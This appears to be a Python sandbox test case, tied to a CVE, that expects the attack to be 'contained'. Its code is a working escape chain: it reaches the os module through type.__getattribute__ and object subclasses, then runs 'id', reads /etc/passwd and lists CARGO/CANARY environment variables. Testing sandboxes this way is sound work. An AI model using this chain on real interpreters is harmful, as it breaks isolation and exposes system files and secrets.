# /// case
# technique = "object-graph"
# analysis = ["forbidden-attribute"]
# without_analysis = "contained"
# reference = "CVE-2026-40158"
# ///
# The name is an argument, the function that takes it is a method of `type`.
look = type.__getattribute__
children = look(object, "__subclasses__")()
found = next(look(c, "__init__").__globals__["sys"].modules["os"] for c in children if c.__name__ == "_wrap_close")

def probe(os):
    actions = (
        lambda: os.popen("id").read(),
        lambda: os.read(os.open("/etc/passwd", os.O_RDONLY), 64).decode(),
        lambda: " ".join(key for key in os.environ if key.startswith(("CARGO", "CANARY"))),
    )
    for action in actions:
        try:
            text = action()
        except BaseException as error:
            print("contained", type(error).__name__)
            continue
        print("ESCAPED " + text[:40] if text.strip() else "contained, empty")

probe(found)
